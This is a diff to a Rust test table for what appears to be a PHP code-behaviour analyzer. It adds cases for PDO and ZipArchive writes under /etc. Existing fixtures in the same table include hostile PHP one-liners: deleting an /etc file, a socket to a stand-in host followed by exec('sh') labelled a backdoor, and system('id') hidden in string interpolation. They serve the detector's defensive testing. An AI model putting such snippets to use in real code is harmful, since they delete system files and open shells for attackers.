@@ -61,6 +61,9 @@ fn php_that_does_more_says_what() {
             ("unlink(\"/etc/$x\");", "delete /etc/? Single"),
             ("$s = fsockopen('a.test', 9); exec('sh');", "connect a.test; shell sh; !Backdoor"),
             ("echo \"{$x->y(system('id'))}\";", "shell id"),
+            ("new PDO('sqlite:/etc/x');", "write /etc/x"),
+            ("new PDO('mysql:host=db');", ""),
+            ("$z = new ZipArchive; $z->open('/etc/x', 1);", "write /etc/x"),
         ],
     );
 }
